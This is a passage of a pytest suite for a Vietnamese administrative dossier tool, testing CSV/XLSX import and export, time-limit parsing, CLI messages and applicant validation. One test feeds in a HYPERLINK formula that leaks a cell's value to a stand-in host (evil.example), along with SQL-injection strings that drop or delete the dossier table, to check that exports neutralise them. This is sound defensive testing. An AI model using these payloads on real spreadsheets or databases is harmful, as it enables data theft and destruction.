    assert ready.execute("SELECT code, applicant_id, received_at, due_at, digitized FROM dossier ORDER BY code"
                         ).fetchall() == [("X-1", "171234567", "2024-06-03T08:15", "2024-06-06T17:00", 1),
                                          ("X-2", None, "2024-06-03T09:00", "2024-06-06T11:30", 0)]
    back = openpyxl.load_workbook(rejects)
    assert [list(values) for values in back.worksheets[0].values] == [
        ["Mã hồ sơ", "Mã thủ tục", "Chủ hồ sơ", "Số giấy tờ tùy thân", "Ngày tiếp nhận", "Ngày hẹn trả", "Số hóa",
         "Lý do"],
        ["X-3", "1.004873", None, None, "31/02/2024", None, None,
         "Dòng 6, cột «Chủ hồ sơ»: họ tên chủ hồ sơ không được để trống. Dòng 6, cột «Ngày tiếp nhận»: ngày không "
         "hợp lệ «31/02/2024» (ghi dd/mm/yyyy, dd/mm/yyyy HH:MM hoặc yyyy-mm-dd)."]]
    back.close()


def test_formulas_are_neutralised_in_csv_and_xlsx_and_come_back_intact(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    path = write_csv(tmp_path / "h.csv", [
        row(code="F-1", applicant_name=hostile, address="+84 Thôn 1"),
        row(code="F-2", applicant_name="@SUM(A1:A9)", address="-1; DROP TABLE dossier;--"),
        row(code="F-3", applicant_name="Robert'); DELETE FROM dossier; --"),
    ])
    service.import_dossiers(path)
    stored = dict(ready.execute("SELECT code, applicant_name FROM dossier").fetchall())
    assert stored["F-1"] == hostile and stored["F-3"] == "Robert'); DELETE FROM dossier; --"
    out = tmp_path / "out.csv"
    ExportService(ready).export_dossiers(out, reason="kiểm thử xuất dữ liệu")
    lines = {line[0]: line for line in read_csv(out)[1:]}
    assert lines["F-1"][3] == "'" + hostile and lines["F-1"][6] == "'+84 Thôn 1"
    assert lines["F-2"][3] == "'@SUM(A1:A9)" and lines["F-2"][6] == "'-1; DROP TABLE dossier;--"
    xlsx = tmp_path / "out.xlsx"
    ExportService(ready).export_dossiers(xlsx, reason="kiểm thử xuất dữ liệu")
    book = openpyxl.load_workbook(xlsx)
    cells = {row_cells[0].value: row_cells for row_cells in book.worksheets[0].iter_rows(min_row=2)}
    assert cells["F-1"][3].value == "'" + hostile and cells["F-1"][3].data_type == "s"
    assert not any(cell.data_type == "f" for row_cells in cells.values() for cell in row_cells)
    book.close()
    for exported in (out, xlsx):
        assert service.import_dossiers(exported).unchanged == 3


# -- procedures ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    ("3", (3, "working_days")), ("3 ngày", (3, "calendar_days")), ("3 ngày làm việc", (3, "working_days")),
    ("04 giờ làm việc", (4, "working_hours")), ("8 giờ", (8, "working_hours")), ("Trong ngày", (0, "same_day")),
    ("TRONG NGAY", (0, "same_day")), ("15 Ngày Làm Việc", (15, "working_days")),
])
def test_time_limits(text: str, expected: tuple[int, str]) -> None:
    limit, unit = parse_time_limit(text)
    assert (limit, unit.value) == expected


@pytest.mark.parametrize("text", ["0", "ba ngày", "3 tuần", "1,5 ngày", "-2"])
def test_bad_time_limits(text: str) -> None:
    with pytest.raises(ValueError):
        parse_time_limit(text)


def test_procedures_are_created_updated_by_code_and_fields_created(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    path = tmp_path / "tt.csv"
    header = ["Mã thủ tục", "Tên thủ tục", "Lĩnh vực", "Thời hạn giải quyết", "Mức độ DVC", "Khi bổ sung",
              "Phí, lệ phí"]
    lines = [
        ["9.000001", "Thủ tục thử nghiệm một", "Lĩnh vực mới", "04 giờ làm việc", "Toàn trình", "Tạm dừng", "Không"],
        ["9.000002", "Thủ tục thử nghiệm hai", "hộ tịch", "Trong ngày", "", "", ""],
        ["1.004873", "Thủ tục cấp Giấy xác nhận tình trạng hôn nhân", "Hộ tịch", "5 ngày làm việc", "Một phần",
         "Tính lại", "Miễn"],
    ]
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([header, *lines])
    fields = count(ready, "field")
    result = service.import_procedures(path)
    assert (result.inserted, result.updated, result.fields_created) == (2, 1, 1)
    assert count(ready, "field") == fields + 1
    assert ready.execute(
        "SELECT p.code, f.name, p.time_limit, p.time_limit_unit, p.online_level, p.supplement_rule, p.fee"
        " FROM procedure p JOIN field f ON f.id = p.field_id WHERE p.code IN ('9.000001', '9.000002', '1.004873')"
        " ORDER BY p.code").fetchall() == [
        ("1.004873", "Hộ tịch", 5, "working_days", "partial", "restart", "Miễn"),
        ("9.000001", "Lĩnh vực mới", 4, "working_hours", "full", "pause", "Không"),
        ("9.000002", "Hộ tịch", 0, "same_day", None, "restart", None),
    ]
    again = service.import_procedures(path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 3)


def test_bad_procedure_rows_write_nothing(service: ImportService, ready: Database, tmp_path: Path) -> None:
    path = tmp_path / "tt.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([
            ["code", "name", "field", "time_limit"],
            ["9.1", "Một", "Lĩnh vực A", "3 tuần"],
            ["9.2", "", "Lĩnh vực A", "3"],
            ["9.3", "Ba", "Lĩnh vực A", ""],
            ["9.4", "Bốn", "Lĩnh vực A", "2"],
        ])
    procedures = count(ready, "procedure")
    with pytest.raises(ImportRejected) as caught:
        service.import_procedures(path)
    assert [str(problem) for problem in caught.value.problems] == [
        "Dòng 2, cột «time_limit»: thời hạn «3 tuần» không hợp lệ (ví dụ: 3 ngày làm việc, 30 ngày, 04 giờ làm "
        "việc, Trong ngày, hoặc cả câu như «30 ngày kể từ ngày nhận đủ hồ sơ hợp lệ»; một số không kèm đơn vị là "
        "ngày làm việc).",
        "Dòng 3, cột «name»: tên thủ tục không được để trống.",
        "Dòng 4, cột «time_limit»: thủ tục mới phải có thời hạn giải quyết.",
    ]
    assert count(ready, "procedure") == procedures
    assert ready.execute("SELECT count(*) FROM field WHERE name = 'Lĩnh vực A'").fetchone()[0] == 0


# -- the real command ---------------------------------------------------------------------------------------


@pytest.fixture
def cli_db(db_path: Path) -> Path:
    database = open_db(db_path)
    prepare(database)
    database.close()
    return db_path


def test_cli_import_one_bad_row_among_2000(cli_db: Path, tmp_path: Path) -> None:
    rows = [row(code=f"H-{n:04d}") for n in range(2000)]
    rows[5]["received_at"] = "31/02/2024"
    path = write_csv(tmp_path / "2000.csv", rows)
    result = cchc("import", "dossiers", str(path), "--db", str(cli_db))
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines() == [
        "Dòng 7, cột «Ngày tiếp nhận»: ngày không hợp lệ «31/02/2024» (ghi dd/mm/yyyy, dd/mm/yyyy HH:MM hoặc "
        "yyyy-mm-dd).",
        "Không ghi dữ liệu nào: có 1 dòng lỗi.",
        "Hãy sửa các dòng trên rồi nhập lại, hoặc dùng --skip-invalid --rejects TỆP để chỉ nhập các dòng đúng.",
    ]
    assert count(Database(cli_db)) == 0
    rows[5]["received_at"] = "28/02/2024"
    write_csv(path, rows)
    result = cchc("import", "dossiers", str(path), "--db", str(cli_db))
    assert (result.returncode, result.stdout.strip()) == (0, "Đã nhập 2000 hồ sơ (0 bỏ qua vì trùng).")
    result = cchc("import", "dossiers", str(path), "--db", str(cli_db))
    assert (result.returncode, result.stdout.strip()) == (0, "Đã nhập 0 hồ sơ (2000 bỏ qua vì trùng).")


def test_cli_sums_up_bad_rows_by_cause_and_skip_invalid_writes_rejects(cli_db: Path, tmp_path: Path) -> None:
    """60 rows with one cause are one line (issue 19: an empty catalogue gave 100,000 near-identical lines); causes
    differ by more than the values they quote."""
    rows = [row(code=f"K-{n:03d}", applicant_id="1" if n % 2 else "") for n in range(120)]
    path = write_csv(tmp_path / "k.csv", rows)
    result = cchc("import", "dossiers", str(path), "--db", str(cli_db))
    lines = result.stderr.splitlines()
    assert result.returncode == 1
    assert lines[0] == ("60 dòng, cột «Số giấy tờ tùy thân»: số giấy tờ tùy thân «…» phải gồm 9 hoặc 12 chữ số "
                        "(dòng 3, 5, 7, 9, 11, …).")
    assert lines[1:] == ["Không ghi dữ liệu nào: có 60 dòng lỗi.",
                         "Hãy sửa các dòng trên rồi nhập lại, hoặc dùng --skip-invalid --rejects TỆP để chỉ nhập các "
                         "dòng đúng."]
    from cchc_desktop.services.tables import RowProblem, summarise

    problems = [RowProblem(2, "Mã thủ tục", "không tìm thấy thủ tục «1.000001»"), RowProblem(3, None, "dòng trống"),
                *(RowProblem(line, "Mã thủ tục", f"không tìm thấy thủ tục «9.{line:06d}»") for line in range(4, 9))]
    assert summarise(problems) == [
        "6 dòng, cột «Mã thủ tục»: không tìm thấy thủ tục «…» (dòng 2, 4, 5, 6, 7, …).", "Dòng 3: dòng trống."]
    rejects = tmp_path / "loi.csv"
    result = cchc("import", "dossiers", str(path), "--skip-invalid", "--rejects", str(rejects), "--db", str(cli_db))
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == ["Đã nhập 60 hồ sơ (0 bỏ qua vì trùng).",
                                          f"Bỏ qua 60 dòng lỗi, đã ghi vào {rejects}."]
    assert len(read_csv(rejects)) == 61
    usage = cchc("import", "dossiers", str(path), "--skip-invalid", "--db", str(cli_db))
    assert usage.returncode == 2 and "--skip-invalid cần --rejects TỆP" in usage.stderr


def test_cli_windows_1258_file(cli_db: Path, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "cp.csv", [row()], encoding="utf-8")
    path.write_bytes(windows_1258(path.read_text(encoding="utf-8")))
    result = cchc("import", "dossiers", str(path), "--db", str(cli_db))
    assert result.returncode == 1
    assert result.stderr.startswith("Lỗi: Tệp «cp.csv» không phải văn bản UTF-8")
    assert "Lưu lại dưới dạng CSV UTF-8" in result.stderr
    missing = cchc("import", "dossiers", str(tmp_path / "none.csv"), "--db", str(cli_db))
    assert missing.returncode == 1 and f"Lỗi: Không tìm thấy tệp «{tmp_path / 'none.csv'}»." in missing.stderr


def test_cli_export_period_and_round_trip(demo_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "h1.xlsx"
    result = cchc(*EXPORT, str(target), "--period", "2024-H1", "--db", str(demo_path), *DEMO_ADMIN)
    assert result.returncode == 0, result.stderr
    exported = Database(demo_path).execute(
        "SELECT count(*) FROM dossier WHERE received_at < '2024-07-01'").fetchone()[0]
    assert result.stdout.strip() == f"Đã xuất {exported} hồ sơ (6 tháng đầu năm 2024) ra {target}."
    result = cchc("import", "dossiers", str(target), "--update", "--db", str(demo_path), *DEMO_ADMIN)
    assert (result.returncode, result.stdout.strip()) == (0, f"Đã nhập 0 hồ sơ ({exported} bỏ qua vì trùng).")
    bad = cchc(*EXPORT, str(target), "--period", "2024-Q5", "--db", str(demo_path), *DEMO_ADMIN)
    assert bad.returncode == 2 and "--period: Kỳ «2024-Q5» không hợp lệ." in bad.stderr


def test_cli_import_procedures_and_help(cli_db: Path, tmp_path: Path) -> None:
    path = tmp_path / "tt.csv"
    path.write_text("code;name;field;time_limit\n9.000009;Thủ tục chín;Văn hóa cơ sở;Trong ngày\n", encoding="utf-8")
    result = cchc("import", "procedures", str(path), "--db", str(cli_db))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "Đã nhập 1 thủ tục mới, cập nhật 0 thủ tục (0 không đổi); thêm 1 lĩnh vực mới."
    helped = cchc("import", "--help")
    assert helped.returncode == 0 and "--skip-invalid" in helped.stdout and "danh mục thủ tục" in helped.stdout


@pytest.mark.parametrize(("field", "value"), [
    ("phone", "12"), ("phone", "gọi sau"), ("phone", "0912 345 678"), ("phone", "+84 912.345.678"),
    ("phone", "(0237) 3865-123"), ("phone", "091234567890"), ("phone", "０９１２３４５６７８"),
    ("applicant_id", "0380900123"), ("applicant_id", "038 090 012 345"), ("applicant_id", "171234567"),
    ("applicant_id", "03809001234５"), ("applicant_id", "CCCD038090012345"),
])
def test_the_desk_and_the_import_keep_the_same_applicant_rules(
    service: ImportService, ready: Database, tmp_path: Path, field: str, value: str,
) -> None:
    """Issue 17: one rule for the applicant's phone and identity number; what the desk refuses, the import refuses
    (it once stored «12» and «gọi sau»), and both store the same normalised value."""
    desk = ReceptionService(ready, clock=lambda: NOW)
    new = NewDossier(procedure_code="1.004873", applicant_name="Nguyễn Văn Ấn", **{field: value})
    try:
        stored_by_desk = ready.execute(f"SELECT {field} FROM dossier WHERE id = ?",
                                       [desk.register(new).dossier_id]).fetchone()[0]
    except ValidationError as exc:
        assert field in exc.errors
        stored_by_desk = None
    path = write_csv(tmp_path / "one.csv", [row(code="B-1", **{field: value})])
    try:
        service.import_dossiers(path)
        stored_by_import = ready.execute(f"SELECT {field} FROM dossier WHERE code = 'B-1'").fetchone()[0]
    except ImportRejected as exc:
        assert [problem.line for problem in exc.problems] == [2]
        stored_by_import = None
    assert stored_by_desk == stored_by_import
